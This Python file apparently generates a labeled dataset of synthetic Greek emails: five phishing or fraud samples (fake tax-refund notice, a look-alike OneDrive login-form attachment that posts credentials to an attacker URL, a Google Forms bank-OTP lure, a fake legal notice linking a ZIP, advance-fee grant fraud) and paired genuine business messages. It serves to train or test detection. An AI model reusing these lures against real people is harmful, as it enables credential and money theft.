# -*- coding: utf-8 -*-
"""Greek messages (attack 32-36, business 32-36)."""
import ids
import docs
import office
import mime
import company as C
import mailsys as X
from common import *
from reg import msg

KDM_HOST, KDM_IP = 's47.grserver.gr', '198.51.100.147'
EG_GR_IBAN = ids.make_iban('GR', '0172201' + '0005220098134411')
ELENI = ('Ελένη Παπαδοπούλου', 'eleni.papadopoulou@example.com')
GIORGOS = ('Γιώργος Αντωνίου', 'giorgos.antoniou@example.com')
NIKOS = ('Νίκος Καραγιάννης', 'n.karagiannis@kdm-vet.gr')


def sig_kdm(who='nikos'):
    if who == 'nikos':
        return ('Με εκτίμηση,\n\nΝίκος Καραγιάννης\nΥπεύθυνος Προμηθειών\nΚτηνιατρική Διανομή Μακεδονίας Α.Ε.\n'
                'Οδός Γιαννιτσών 212, 546 27 Θεσσαλονίκη\nΤ: +30 2310 512 840 | Κ: +30 694 512 7730\nwww.kdm-vet.gr')
    return ('Με εκτίμηση,\n\nΛογιστήριο\nΚτηνιατρική Διανομή Μακεδονίας Α.Ε.\nΟδός Γιαννιτσών 212, 546 27 Θεσσαλονίκη\n'
            'Τ: +30 2310 512 800\nΑΦΜ 099275186 - ΔΟΥ ΦΑΕ Θεσσαλονίκης')


# =====================================================================================
@msg('attack', '32-el-aade-epistrofi-fpa.eml')
def a32(m):
    r = m.rng
    t = when(2026, 10, 22, 10, 47, 1, 'EET')
    track = 'https://u39104772.ct.sendgrid.net/ls/click?upn=u001.%s' % b64s(r, 90).replace('+', '-').replace('/', '_').rstrip('=')
    html = ('<!DOCTYPE html><html lang="el"><head><meta charset="utf-8"></head>\n'
            '<body style="font-family:Arial,sans-serif;margin:0;background:#eef2f6">\n'
            '<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:20px">\n'
            '<table width="600" cellpadding="0" cellspacing="0" style="background:#fff">\n'
            '<tr><td style="background:#003476;padding:16px 24px;color:#fff;font-size:18px"><b>ΑΑΔΕ</b> · Ανεξάρτητη Αρχή Δημοσίων Εσόδων</td></tr>\n'
            '<tr><td style="padding:22px 24px;font-size:15px;line-height:23px;color:#222">\n'
            '<p>Αγαπητέ/ή φορολογούμενε,</p>\n'
            '<p>Κατά τη διασταύρωση των δεδομένων της πλατφόρμας <b>myDATA</b> με τις περιοδικές δηλώσεις ΦΠΑ του γ\' τριμήνου 2026 '
            'διαπιστώθηκε πιστωτικό υπόλοιπο υπέρ της επιχείρησής σας ύψους <b>2.846,30 €</b>.</p>\n'
            '<p>Για την απόδοση της επιστροφής απαιτείται επιβεβαίωση του IBAN της επιχείρησης μέσω των κωδικών Taxisnet έως '
            'την <b>29/10/2026</b>. Μετά την παρέλευση της προθεσμίας το ποσό συμψηφίζεται.</p>\n'
            '<p style="margin:24px 0"><a href="%s" style="background:#003476;color:#fff;padding:11px 24px;text-decoration:none">'
            'Επιβεβαίωση στοιχείων επιστροφής</a></p>\n'
            '<p>Με εκτίμηση,<br>Διεύθυνση Επιστροφών ΦΠΑ</p>\n</td></tr>\n'
            '<tr><td style="padding:12px 24px;font-size:11px;color:#777">Το μήνυμα αποστέλλεται αυτόματα. Παρακαλούμε μην απαντάτε.</td></tr>\n'
            '</table></td></tr></table></body></html>\n' % track)
    m.root = B.alt(m, B.html_to_text(html).replace('Επιβεβαίωση στοιχείων επιστροφής', 'Επιβεβαίωση στοιχείων επιστροφής: ' + track),
                   html, 'utf-8', 'base64', bnd=hexs(r, 60), ct_quote=False)
    c = dict(frm=('ΑΑΔΕ - myAADE', 'info@aade-epistrofes.gr.com'), to=[GIORGOS],
             subject='Ειδοποίηση επιστροφής ΦΠΑ - Απαιτείται επιβεβαίωση IBAN', date=t, hcs='utf-8', hmode='B')
    X.sendgrid(m, c, 'aade-epistrofes.gr.com', 'em2281', dmarc_policy='absent')
    m.describe('Fake AADE (Greek tax authority) VAT-refund notice asking to confirm the company IBAN with Taxisnet '
               'credentials; SendGrid account on the look-alike domain aade-epistrofes.gr.com.',
               'AADE uses aade.gr / gsis.gr and never sends login links for refunds; refund bait; deadline; bulk ESP.')


# =====================================================================================
@msg('attack', '33-el-kdm-lookalike-html-apodeiktiko.eml')
def a33(m):
    r = m.rng
    t = when(2026, 11, 13, 12, 20, 44, 'EET')
    action = 'https://kdmvet-docs.com/onedrive/auth/verify.php'
    page = ('<!DOCTYPE html>\n<html lang="el"><head><meta charset="utf-8"><title>Αποδεικτικό πληρωμής - OneDrive</title>\n'
            '<style>body{font-family:"Segoe UI",Arial,sans-serif;background:#f3f2f1;margin:0}.box{width:380px;margin:80px auto;background:#fff;'
            'padding:36px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%%;padding:8px 0;border:0;border-bottom:1px solid #666;'
            'margin:14px 0;font-size:15px}button{background:#0067b8;color:#fff;border:0;padding:9px 32px;font-size:15px;float:right}</style></head>\n'
            '<body><div class="box"><div style="font-size:20px;color:#1b1b1b">Microsoft</div>\n'
            '<p style="font-size:15px">Για να δείτε το αρχείο <b>Apodeiktiko_Pliromis_TIM-2026-1187.pdf</b>, επιβεβαιώστε τη διεύθυνση '
            'ηλεκτρονικού ταχυδρομείου σας.</p>\n'
            '<form method="post" action="%s">\n'
            '<input type="email" name="login" value="eleni.papadopoulou@example.com">\n'
            '<input type="password" name="passwd" placeholder="Κωδικός πρόσβασης">\n'
            '<button type="submit">Είσοδος</button></form>\n'
            '<p style="font-size:12px;color:#666;clear:both;padding-top:18px">Τα αρχεία προστατεύονται από το Microsoft OneDrive.</p>\n'
            '</div></body></html>\n' % action)
    body = ('Καλησπέρα σας κα Παπαδοπούλου,\n\nσας επισυνάπτουμε το αποδεικτικό πληρωμής για το τιμολόγιο ΤΙΜ-2026-1187 '
            '(ποσό 14.286,40 €), όπως ζητήσατε από το λογιστήριο.\n\nΠαρακαλούμε επιβεβαιώστε την παραλαβή.\n\n'
            'Με εκτίμηση,\nΛογιστήριο\nΚτηνιατρική Διανομή Μακεδονίας Α.Ε.\n')
    m.root = Multi('mixed', [Leaf('text/plain', body, 'windows-1253', 'quoted-printable'),
                             att(m, page.encode('utf-8'), 'text/html', 'Apodeiktiko_Pliromis_TIM-2026-1187.html', 'outlook', t)], B.bnd_generic(m))
    c = dict(frm=('Λογιστήριο KDM', 'logistirio@kdmvet.gr'), to=[ELENI], subject='Αποδεικτικό πληρωμής ΤΙΜ-2026-1187',
             date=t, hcs='windows-1253', hmode='B')
    X.exim_cpanel(m, c, 'cp-eu3.cheaphost-web.com', '192.0.2.93', '5.188.62.140', dkim_d='kdmvet.gr', z='EET',
                  mua_headers=[('X-Mailer', 'Microsoft Outlook 16.0')], dmarc_policy=None)
    m.describe('Credential phishing with an HTML attachment: the look-alike domain kdmvet.gr (real: kdm-vet.gr) sends a '
               '"payment receipt" that is a local Microsoft/OneDrive sign-in form pre-filled with the recipient\'s address '
               'and posting to an attacker server (script-free here).',
               'Look-alike customer domain on another hosting server; "receipt" as .html; form action to kdmvet-docs.com. '
               'Genuine payment proof from the real customer: business/32.')


# =====================================================================================
@msg('attack', '34-el-google-forms-trapeza-stoixeia.eml')
def a34(m):
    r = m.rng
    t = when(2026, 11, 26, 9, 31, 18, 'EET')
    fid = '1FAIpQLS' + alnum(r, 48, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-')
    url = 'https://docs.google.com/forms/d/e/%s/viewform?usp=mail_form_link' % fid
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>\n'
            '<body style="font-family:Roboto,Arial,sans-serif;background:#f0ebf8;margin:0">\n'
            '<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px">\n'
            '<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:8px;border-top:10px solid #673ab7">\n'
            '<tr><td style="padding:24px;font-size:14px;color:#202124">Αν αντιμετωπίζετε πρόβλημα με την προβολή ή την υποβολή αυτής της '
            'φόρμας, μπορείτε να τη συμπληρώσετε στις Φόρμες Google: <a href="%s">%s</a></td></tr>\n'
            '<tr><td style="padding:0 24px 10px;font-size:26px;color:#202124">Επικαιροποίηση στοιχείων επιχειρηματικών πελατών - Piraeus Business</td></tr>\n'
            '<tr><td style="padding:0 24px 16px;font-size:14px;line-height:21px;color:#202124">Σύμφωνα με την οδηγία AMLR (ΕΕ) 2024/1624, οι '
            'επιχειρηματικοί πελάτες οφείλουν να επικαιροποιήσουν τα στοιχεία των νομίμων εκπροσώπων και των χρηστών e-banking '
            'έως τις 05/12/2026. Διαφορετικά, οι συναλλαγές μέσω winbank Business θα περιοριστούν.<br><br>'
            'Απαιτούμενα: επωνυμία, ΑΦΜ, όνομα χρήστη winbank, κινητό τηλέφωνο, κωδικός μίας χρήσης (OTP).</td></tr>\n'
            '<tr><td style="padding:8px 24px 26px"><a href="%s" style="background:#673ab7;color:#fff;padding:10px 24px;border-radius:4px;'
            'text-decoration:none;font-size:14px">ΣΥΜΠΛΗΡΩΣΗ ΦΟΡΜΑΣ</a></td></tr>\n'
            '<tr><td style="padding:12px 24px;font-size:12px;color:#5f6368;border-top:1px solid #dadce0">Δημιουργήθηκε με τις Φόρμες Google. '
            'Δεν δημιουργήθηκε ούτε έχει εγκριθεί από την Google. <a href="https://docs.google.com/forms/u/0/d/e/%s/reportabuse" style="color:#5f6368">'
            'Αναφορά κατάχρησης</a></td></tr>\n</table></td></tr></table></body></html>\n' % (url, url, url, fid))
    m.root = B.alt(m, B.html_to_text(html), html, 'UTF-8', 'quoted-printable', bnd=B.bnd_gmail(m), ct_quote=True)
    c = dict(frm=('Piraeus Business (μέσω Φορμών Google)', 'forms-receipts-noreply@google.com'),
             reply_to=[('', 'piraeus.business.update@gmail.com')], to=[GIORGOS],
             subject='Επικαιροποίηση στοιχείων επιχειρηματικών πελατών - Piraeus Business', date=t, hcs='UTF-8', hmode='B')
    X.google_service(m, c)
    m.describe('Abuse of Google Forms: a genuine Google Forms invitation (google.com DKIM, DMARC pass) from a Gmail user posing '
               'as Piraeus Bank business banking, collecting winbank user names and one-time passwords for "AMLR" compliance.',
               'Bank data collected in a Google Form, Reply-To gmail.com, asks for OTP; Google\'s own footer "not created or '
               'endorsed by Google". Genuine Google Forms invite from a customer: business/34.')


# =====================================================================================
@msg('attack', '35-el-exodiki-pneymatika-dikaiomata.eml')
def a35(m):
    r = m.rng
    t = when(2026, 12, 3, 15, 9, 27, 'EET')
    url = 'https://www.mediafire.com/file/%s/Apodeiktika_Paraviasis_EG_Hellas_2026.zip/file' % alnum(r, 15, 'abcdefghijklmnopqrstuvwxyz0123456789')
    text = ('Αξιότιμοι κύριοι,\n\n'
            'Ενεργώντας για λογαριασμό της εντολέως μας, φωτογράφου επαγγελματία, σας κοινοποιούμε την παρούσα εξώδικη δήλωση '
            'για τη χωρίς άδεια χρήση πνευματικά προστατευμένων φωτογραφιών (σκύλοι και γάτες σε εξωτερικούς χώρους) στην '
            'ιστοσελίδα και στους λογαριασμούς κοινωνικής δικτύωσης της εταιρείας σας Example Group Hellas.\n\n'
            'Σύμφωνα με τον Ν. 2121/1993, η παράνομη χρήση συνεπάγεται αποζημίωση τουλάχιστον διπλάσια της συνήθους αμοιβής. '
            'Τα αποδεικτικά στοιχεία (στιγμιότυπα οθόνης, πρωτότυπα αρχεία και μεταδεδομένα) είναι διαθέσιμα στον σύνδεσμο:\n\n'
            '%s\n\n'
            'Σας καλούμε να αφαιρέσετε το υλικό και να επικοινωνήσετε μαζί μας εντός 5 ημερών, άλλως θα προβούμε σε όλες τις '
            'νόμιμες ενέργειες.\n\nΜε τιμή,\n\nΑνδρέας Παπαδάκης\nΔικηγόρος Θεσσαλονίκης\nΤηλ. +30 2310 227 194\n' % url)
    m.root = Multi('alternative', [Leaf('text/plain', text, 'UTF-8', 'base64'),
                                   Leaf('text/html', B.gmail_html(text), 'UTF-8', 'base64')], B.bnd_gmail(m), quote=True)
    c = dict(frm=('Δικηγορικό Γραφείο Παπαδάκη', 'papadakis.dikigoros.thess@gmail.com'), to=[ELENI],
             subject='Εξώδικη δήλωση - Παραβίαση πνευματικών δικαιωμάτων (Ν. 2121/1993)', date=t, hcs='UTF-8', hmode='B')
    X.gmail(m, c)
    m.describe('Fake legal notice (copyright-infringement lure, as used by current infostealer campaigns): a "law office" on '
               'Gmail threatens action over photos on the company\'s website and links "evidence" as a ZIP on MediaFire.',
               'Lawyer on Gmail, evidence only as archive on a file host, 5-day ultimatum, no concrete URLs of the infringing '
               'images.', phones=['+30 2310 227 194'])


# =====================================================================================
@msg('attack', '36-el-espa-paravolo-prokatavoli.eml')
def a36(m):
    r = m.rng
    t = when(2026, 12, 10, 11, 2, 9, 'EET')
    iban = ids.make_iban('GR', '0260451' + '0000740201883297')
    text = ('Αξιότιμε/η κύριε/κυρία,\n\n'
            'Σας ενημερώνουμε ότι η επιχείρησή σας EXAMPLE GROUP HELLAS ΜΟΝΟΠΡΟΣΩΠΗ Α.Ε. (ΑΦΜ 801773426) έχει προεπιλεγεί για '
            'χρηματοδότηση στο πλαίσιο της Δράσης «Πράσινη Μετάβαση Μεταποιητικών ΜμΕ» του ΕΣΠΑ 2021-2027, με ποσό επιχορήγησης '
            '148.500,00 € (ποσοστό 55%%).\n\n'
            'Για την ολοκλήρωση της ένταξης απαιτείται:\n'
            '1. Καταβολή παραβόλου αξιολόγησης φακέλου ύψους 480,00 € στον λογαριασμό του φορέα υλοποίησης:\n'
            '   Δικαιούχος: ESPA CONSULTING PARTNERS IKE\n   IBAN: %s\n   Αιτιολογία: ΑΦΜ 801773426 - ΠΜ-2026-11874\n'
            '2. Αποστολή του αποδεικτικού πληρωμής σε απάντηση του παρόντος εντός 5 εργάσιμων ημερών.\n\n'
            'Μετά την παρέλευση της προθεσμίας η θέση θα αποδοθεί στον επόμενο επιλαχόντα.\n\n'
            'Με εκτίμηση,\nΜονάδα Αξιολόγησης Προτάσεων\nΕΣΠΑ 2021-2027\n' % ids.fmt_iban(iban))
    m.root = Leaf('text/plain', text, 'iso-8859-7', 'quoted-printable', ct_quote=True)
    c = dict(frm=('ΕΣΠΑ 2021-2027 Μονάδα Αξιολόγησης', 'egkriseis@espa-programmata.eu'), to=[GIORGOS],
             subject='Προέγκριση χρηματοδότησης ΕΣΠΑ - ΠΜ-2026-11874', date=t, hcs='iso-8859-7', hmode='B')
    X.ses(m, c, region='eu-central-1', host=('a69-57', '69.169.224.57'), dkim_d='espa-programmata.eu', dkim_s='ses2026',
          mail_from='bounce@mail.espa-programmata.eu', dmarc_policy='absent')
    m.describe('Advance-fee fraud: fake ESPA (EU structural funds) "pre-approval" of a EUR 148,500 grant that requires a '
               'EUR 480 "evaluation fee" to a private company\'s IBAN within 5 days.',
               'No application was filed; public grants never require fees to private accounts; look-alike .eu domain via SES; '
               'urgency. ', ibans=[iban])


# =====================================================================================
# BUSINESS
# =====================================================================================
@msg('business', '32-el-kdm-paraggelia-apodeiktiko.eml')
def b32(m):
    r = m.rng
    t = when(2026, 11, 11, 11, 14, 25, 'EET')
    gr = lambda v: docs.money(v, 'el')
    rec, _ = docs.build(m, [
        ('h', 'Αποδεικτικό Εκτέλεσης Μεταφοράς'), ('small', 'Εθνική Τράπεζα της Ελλάδος · ibank Business'), ('sp', 8),
        ('kv', [('Αριθμός συναλλαγής', '2026111100418873'), ('Ημερομηνία', '11/11/2026 10:52'),
                ('Χρεωμένος λογαριασμός', ids.fmt_iban(C.KTDM_IBAN)), ('Δικαιούχος', 'EXAMPLE GROUP HELLAS ΜΟΝ. Α.Ε.'),
                ('IBAN δικαιούχου', ids.fmt_iban(EG_GR_IBAN)), ('Ποσό', '14.286,40 EUR'), ('Αιτιολογία', 'ΕΞΟΦΛΗΣΗ ΤΙΜ 2026-1187 KDM')]),
        ('sp', 8), ('small', 'Το παρόν αποτελεί αποδεικτικό εκτέλεσης της εντολής και δεν αποτελεί απόδειξη πίστωσης του λογαριασμού του δικαιούχου.'),
    ], 'NBG ibank', 'NBG ibank', 'Apodeiktiko', 'NBG', t - TD(minutes=20),
        header=docs.letterhead('Εθνική Τράπεζα', ['ibank Business · Αποδεικτικό συναλλαγής'], (0.0, 0.3, 0.4)))
    body = ('Καλημέρα κα Παπαδοπούλου,\n\nσας στέλνω το αποδεικτικό εξόφλησης του τιμολογίου 2026-1187 (14.286,40 €) και την '
            'παραγγελία μας για την εβδομάδα 47:\n\n'
            '- Ξηρά τροφή σκύλου adult κοτόπουλο 12 kg: 180 σακιά\n- Ξηρά τροφή γάτας sterilised 7 kg: 120 σακιά\n'
            '- Υγρή τροφή γάτας φακελάκια 12x85 g: 240 κιβώτια\n\nΠαράδοση στην αποθήκη μας στο Καλοχώρι, Τρίτη 17/11 πρωί αν γίνεται.\n\n') + sig_kdm()
    m.root = Multi('mixed', [B.alt(m, body, B.outlook_html(body, 'el', 'windows-1253'), 'windows-1253', 'quoted-printable', bnd=B.bnd_generic(m)),
                             att(m, rec, 'application/pdf', 'Apodeiktiko_NBG_2026111100418873.pdf', 'outlook', t)], B.bnd_generic(m))
    c = dict(frm=NIKOS, to=[ELENI], cc=[GIORGOS], subject='Παραγγελία εβδ. 47 και αποδεικτικό εξόφλησης ΤΙΜ 2026-1187',
             date=t, hcs='windows-1253', hmode='B')
    X.exim_cpanel(m, c, KDM_HOST, KDM_IP, '94.66.58.203', z='EET', dmarc_policy='none',
                  mua_headers=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Thread-Index', X.thread_index(r)), ('Content-Language', 'el')])
    m.describe('Genuine customer order and payment proof (bank transfer receipt PDF) from the Greek distributor\'s real '
               'cPanel/Exim mailbox, in windows-1253.', 'Real domain kdm-vet.gr, authenticated sender, order matches customer '
               'profile, payment to Example Group Hellas\' own account.', hardneg='33-el-kdm-lookalike-html-apodeiktiko.eml',
               ibans=[C.KTDM_IBAN, EG_GR_IBAN], phones=['+30 2310 512 840', '+30 694 512 7730'])


# =====================================================================================
@msg('business', '33-el-esoteriko-mydata-diavivasi.eml')
def b33(m):
    t = when(2026, 11, 30, 12, 58, 40, 'EET')
    text = ('Ελένη καλησπέρα,\n\nγια το κλείσιμο του Νοεμβρίου: διαβιβάσαμε στο myDATA όλα τα παραστατικά πωλήσεων μέχρι και '
            'σήμερα (τελευταίο ΤΔΑ 2026-2311). Εκκρεμούν τρία παραστατικά αγορών του Λιμένα Θεσσαλονίκης που δεν έχουν '
            'εμφανιστεί ακόμα - αν σου έρθουν σε χαρτί, σκάναρέ τα στον φάκελο Λογιστήριο\\Αγορές.\n\n'
            'Επίσης: κυκλοφορούν ψεύτικα μηνύματα «ΑΑΔΕ - επιστροφή ΦΠΑ» με συνδέσμους. Η ΑΑΔΕ δεν στέλνει τέτοια e-mail· '
            'όποιο έρθει, προώθησέ το στο phishing@example.com και μην πατήσεις τίποτα.\n\n'
            'Ευχαριστώ,\nΓιώργος\n\nΓιώργος Αντωνίου\nΛογιστήριο\nExample Group Hellas Μον. Α.Ε.\nΤηλ. +30 2310 798 645')
    m.root = B.alt(m, text, B.outlook_html(text, 'el', 'iso-8859-7'), 'iso-8859-7', 'quoted-printable', bnd=B.bnd_exchange(m))
    c = dict(frm=GIORGOS, to=[ELENI], subject='Κλείσιμο Νοεμβρίου - myDATA', date=t, hcs='iso-8859-7', hmode='Q')
    X.exchange_internal(m, c, client_ip='10.26.1.12', lang='el-GR')
    m.describe('Genuine internal message (iso-8859-7) from the Greek accountant about the month-end myDATA submissions and '
               'a warning about fake AADE refund e-mails.', 'Internal route; no links, no attachments.',
               hardneg='32-el-aade-epistrofi-fpa.eml', phones=['+30 2310 798 645'])


# =====================================================================================
@msg('business', '34-el-google-forms-seminario-kdm.eml')
def b34(m):
    r = m.rng
    t = when(2026, 10, 15, 10, 6, 2, 'EET')
    fid = '1FAIpQLS' + alnum(r, 48, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-')
    url = 'https://docs.google.com/forms/d/e/%s/viewform?usp=mail_form_link' % fid
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>\n'
            '<body style="font-family:Roboto,Arial,sans-serif;background:#e8f0fe;margin:0">\n'
            '<table width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px">\n'
            '<table width="600" cellpadding="0" cellspacing="0" style="background:#fff;border-radius:8px;border-top:10px solid #1a73e8">\n'
            '<tr><td style="padding:24px;font-size:14px;color:#202124">Ο χρήστης Νίκος Καραγιάννης (n.karagiannis@kdm-vet.gr) σας προσκάλεσε να '
            'συμπληρώσετε μια φόρμα:</td></tr>\n'
            '<tr><td style="padding:0 24px 10px;font-size:26px;color:#202124">Σεμινάριο διατροφής σκύλου &amp; γάτας για συνεργάτες pet shop - 21/11/2026</td></tr>\n'
            '<tr><td style="padding:0 24px 16px;font-size:14px;line-height:21px">Δηλώστε συμμετοχή (ονοματεπώνυμο, κατάστημα, αριθμός '
            'ατόμων). Ομιλητές από την Example Group Hellas και κτηνίατρο διατροφολόγο. Χώρος: ξενοδοχείο Μακεδονία Παλλάς.</td></tr>\n'
            '<tr><td style="padding:8px 24px 26px"><a href="%s" style="background:#1a73e8;color:#fff;padding:10px 24px;border-radius:4px;'
            'text-decoration:none;font-size:14px">ΣΥΜΠΛΗΡΩΣΗ ΦΟΡΜΑΣ</a></td></tr>\n'
            '<tr><td style="padding:12px 24px;font-size:12px;color:#5f6368;border-top:1px solid #dadce0">Δημιουργήθηκε με τις Φόρμες Google. '
            '<a href="https://docs.google.com/forms/u/0/d/e/%s/reportabuse" style="color:#5f6368">Αναφορά κατάχρησης</a></td></tr>\n'
            '</table></td></tr></table></body></html>\n' % (url, fid))
    m.root = B.alt(m, B.html_to_text(html), html, 'UTF-8', 'quoted-printable', bnd=B.bnd_gmail(m), ct_quote=True)
    c = dict(frm=('Νίκος Καραγιάννης (μέσω Φορμών Google)', 'forms-receipts-noreply@google.com'), reply_to=[NIKOS], to=[ELENI],
             subject='Σεμινάριο διατροφής σκύλου & γάτας - δήλωση συμμετοχής', date=t, hcs='UTF-8', hmode='B')
    X.google_service(m, c)
    m.describe('Genuine Google Forms invitation from the Greek distributor\'s buyer (Google account on his business address) '
               'for a joint training seminar.', 'Reply-To is the real kdm-vet.gr address; event content only, no data beyond '
               'name/shop.', hardneg='34-el-google-forms-trapeza-stoixeia.eml')


# =====================================================================================
@msg('business', '35-el-kdm-kartela-symfonia.eml')
def b35(m):
    r = m.rng
    t = when(2026, 10, 7, 9, 40, 12, 'EET')
    rows = [[('Ημ/νία', 'b'), ('Παραστατικό', 'b'), ('Χρέωση', 'b'), ('Πίστωση', 'b'), ('Υπόλοιπο', 'b')],
            ['01/07/2026', 'Από μεταφορά', None, None, (18422.10, 'n')], ['15/07/2026', 'ΤΙΜ 2026-0812', (12877.60, 'n'), None, (31299.70, 'n')],
            ['05/08/2026', 'Εξόφληση', None, (18422.10, 'n'), (12877.60, 'n')], ['20/08/2026', 'ΤΙΜ 2026-0944', (9310.20, 'n'), None, (22187.80, 'n')],
            ['10/09/2026', 'Εξόφληση', None, (12877.60, 'n'), (9310.20, 'n')], ['22/09/2026', 'ΠΙΣΤ 2026-0071', None, (412.00, 'n'), (8898.20, 'n')],
            [None, ('Υπόλοιπο 30/09/2026', 'b'), None, None, (8898.20, 'bn')]]
    x = office.xlsx([('Καρτέλα EG Hellas', rows, [12, 22, 12, 12, 12])], 'logistirio', 'logistirio', '2026-10-07T06:12:00Z',
                    '2026-10-07T06:35:10Z', (2026, 10, 7, 6, 35, 10))
    text = ('Καλημέρα σας,\n\nσας στέλνουμε την καρτέλα της εταιρείας σας στα βιβλία μας για το γ\' τρίμηνο 2026 για συμφωνία '
            'υπολοίπων. Το υπόλοιπο στις 30/09/2026 είναι 8.898,20 € υπέρ σας.\n\nΠαρακαλούμε για επιβεβαίωση ή σχόλια.\n\n') + sig_kdm('log')
    m.root = Multi('mixed', [Leaf('text/plain', B.flowed(text), 'UTF-8', '8bit', params='; format=flowed', ct_quote=False),
                             att(m, x, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'Kartela_EG_Hellas_Q3_2026.xlsx', 'thunderbird')],
                   B.bnd_tb(m))
    c = dict(frm=('Λογιστήριο ΚΔΜ', 'logistirio@kdm-vet.gr'), to=[GIORGOS], subject='Συμφωνία υπολοίπων γ΄ τριμήνου 2026',
             date=t, hcs='UTF-8', hmode='B')
    X.exim_cpanel(m, c, KDM_HOST, KDM_IP, '94.66.58.203', z='EET', dmarc_policy='none',
                  mua_headers=[('User-Agent', 'Mozilla Thunderbird'), ('Content-Language', 'el')])
    m.describe('Genuine quarterly balance-confirmation request from the Greek customer\'s accounts department with the ledger '
               'card as XLSX (Thunderbird, 8bit UTF-8).', 'Real domain and server, routine reconciliation, no payment instruction.',
               phones=['+30 2310 512 800'])


# =====================================================================================
@msg('business', '36-el-google-eidopoiisi-asfaleias.eml')
def b36(m):
    r = m.rng
    t = when(2026, 12, 8, 8, 3, 41, 'EET')
    eid = alnum(r, 22, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-')
    act = ('https://accounts.google.com/AccountChooser?Email=eleni.papadopoulou@example.com&continue=https://myaccount.google.com/alert/nt/'
           '%d?rfn%%3D127%%26rfnc%%3D1%%26eid%%3D%s%%26et%%3D0' % (X.ts(t) * 1000, eid))
    html = ('<!DOCTYPE html><html lang="el"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>\n'
            '<body style="margin:0;padding:0;background:#ffffff"><table width="100%%" border="0" cellspacing="0" cellpadding="0">'
            '<tr><td align="center" style="padding:20px 8px">\n'
            '<table width="516" border="0" cellspacing="0" cellpadding="0" style="border:thin solid #dadce0;border-radius:8px">\n'
            '<tr><td align="center" style="padding:40px 20px 20px;font-family:Google Sans,Roboto,Arial,sans-serif;border-bottom:thin solid #dadce0">'
            '<img src="https://www.gstatic.com/images/branding/googlelogo/2x/googlelogo_color_74x24dp.png" width="74" height="24" alt="Google">'
            '<div style="font-size:24px;padding-top:32px;color:#202124">Νέα σύνδεση σε Windows</div>'
            '<div style="font-size:14px;padding-top:8px;color:#3c4043">eleni.papadopoulou@example.com</div></td></tr>\n'
            '<tr><td style="padding:20px;font-family:Roboto,Arial,sans-serif;font-size:14px;color:#3c4043;line-height:20px">'
            'Παρατηρήσαμε μια νέα σύνδεση στον Λογαριασμό σας Google σε μια συσκευή Windows (Chrome, Θεσσαλονίκη). Αν ήσασταν εσείς, '
            'δεν χρειάζεται να κάνετε τίποτα. Αν όχι, θα σας βοηθήσουμε να προστατεύσετε τον λογαριασμό σας.'
            '<div style="padding-top:32px;text-align:center"><a href="%s" style="font-family:Google Sans,Roboto,Arial,sans-serif;font-size:14px;'
            'color:#ffffff;background:#1a73e8;border-radius:4px;padding:10px 24px;text-decoration:none">Έλεγχος δραστηριότητας</a></div>'
            '<div style="padding-top:20px;font-size:12px;color:#5f6368">Μπορείτε επίσης να δείτε τη δραστηριότητα ασφαλείας στη διεύθυνση<br>'
            '<a href="https://myaccount.google.com/notifications" style="color:#4285f4">https://myaccount.google.com/notifications</a></div></td></tr>\n'
            '</table>\n<div style="font-family:Roboto,Arial,sans-serif;font-size:11px;color:rgba(0,0,0,0.54);padding-top:12px;text-align:center">'
            'Λάβατε αυτό το μήνυμα ηλεκτρονικού ταχυδρομείου για να ενημερωθείτε σχετικά με σημαντικές αλλαγές στον Λογαριασμό σας Google '
            'και στις υπηρεσίες σας.<br>&copy; 2026 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA</div>\n'
            '</td></tr></table></body></html>\n' % act)
    plain = ('[image: Google]\nΝέα σύνδεση σε Windows\n\neleni.papadopoulou@example.com\n\nΠαρατηρήσαμε μια νέα σύνδεση στον Λογαριασμό σας '
             'Google σε μια συσκευή Windows (Chrome, Θεσσαλονίκη). Αν ήσασταν εσείς, δεν χρειάζεται να κάνετε τίποτα. Αν όχι, θα σας '
             'βοηθήσουμε να προστατεύσετε τον λογαριασμό σας.\n\nΈλεγχος δραστηριότητας\n<%s>\n\nΜπορείτε επίσης να δείτε τη '
             'δραστηριότητα ασφαλείας στη διεύθυνση\nhttps://myaccount.google.com/notifications\n' % act)
    m.root = Multi('alternative', [Leaf('text/plain', plain, 'UTF-8', 'base64', params='; format=flowed; delsp=yes'),
                                   Leaf('text/html', html, 'UTF-8', 'quoted-printable')], B.bnd_gmail(m), quote=True)
    c = dict(frm=('Google', 'no-reply@accounts.google.com'), to=[('', 'eleni.papadopoulou@example.com')],
             subject='Ειδοποίηση ασφαλείας', date=t, hcs='UTF-8', hmode='B', mail_from='3%s@gaia.bounces.google.com' % alnum(r, 40, 'abcdefghijklmnopqrstuvwxyz0123456789'))
    X.google_service(m, c, dkim_d='accounts.google.com', order=['Date', 'From', 'To', 'Message-ID', 'Subject', 'MIMEONLY'])
    m.headers.insert(1, ('X-Notifications', hexs(r, 16)))
    m.describe('Genuine Google security alert in Greek: new Windows sign-in to the Google account that the Thessaloniki office '
               'manager uses (on her work address) for the office\'s Google Business Profile.',
               'accounts.google.com with aligned DKIM and DMARC pass, links only to accounts.google.com / myaccount.google.com, '
               'no request to enter anything in the mail.', hardneg='34-el-google-forms-trapeza-stoixeia.eml')
